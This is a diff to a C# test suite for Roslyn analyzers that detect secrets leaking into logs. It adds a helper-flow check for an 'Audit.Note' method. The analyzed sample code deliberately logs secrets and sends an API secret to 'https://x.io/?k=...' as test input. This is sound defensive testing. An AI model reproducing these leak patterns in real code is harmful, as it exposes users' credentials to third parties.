@@ -22,7 +22,15 @@ namespace SecretsAnalyzers.Tests.Logging
                     logger.LogInformation("Key {Key} {@Options}", apiSecret, options.Value);
                     Console.WriteLine($"secret={apiSecret} {credentials}");
                     var sb = new StringBuilder().Append(passphrase);
+                    Audit.Note(apiSecretCopy); Audit.Note(passphrase);
                     throw new InvalidOperationException(sb.ToString() + apiSecretCopy + _http.GetAsync($"https://x.io/?k={apiSecret}"));
+            """).Replace(LoggingTestCode.Types, LoggingTestCode.Types + """
+            public static class Audit
+            {
+                public static void Note(string text) => Console.WriteLine("note " + Echo(text));
+                private static string Echo(string value) => value;
+            }
+
             """);
 
         [Fact]
@@ -31,7 +39,7 @@ namespace SecretsAnalyzers.Tests.Logging
             var references = (await TestReferences.Net80.ResolveAsync(LanguageNames.CSharp, CancellationToken.None))
                 .AddRange(TestReferences.Default);
             var analyzers = ImmutableArray.Create<DiagnosticAnalyzer>(
-                new EXK401SecretLoggingAnalyzer(), new EXK403TypePrintsSecretsAnalyzer(), new EXK405SdkVerboseLoggingAnalyzer());
+                new EXK401SecretLoggingAnalyzer(), new EXK401HelperFlowAnalyzer(), new EXK403TypePrintsSecretsAnalyzer(), new EXK405SdkVerboseLoggingAnalyzer());
             var stubs = new[] { LoggingStubs.CryptoExchange, LoggingStubs.Ccxt, LoggingStubs.BinanceConnector, LoggingStubs.LoggingBuilder, LoggingStubs.Telemetry }
                 .Select(s => CSharpSyntaxTree.ParseText(s)).ToList();
 
@@ -52,6 +60,7 @@ namespace SecretsAnalyzers.Tests.Logging
                     Assert.DoesNotContain(diagnostics, d => d.Id == "AD0001");
                     Assert.DoesNotContain(diagnostics, d => d.GetMessage().Contains(PlantedValue.Substring(0, 6)));
                     if (generated) Assert.Empty(diagnostics.Where(d => d.Location.SourceTree?.FilePath == "Test.cs"));
+                    else if (cut == Source.Length) Assert.Contains(diagnostics, d => d.Id == "EXK401" && d.GetMessage().Contains("via 'Audit.Note'"));
                 }
             }
         }
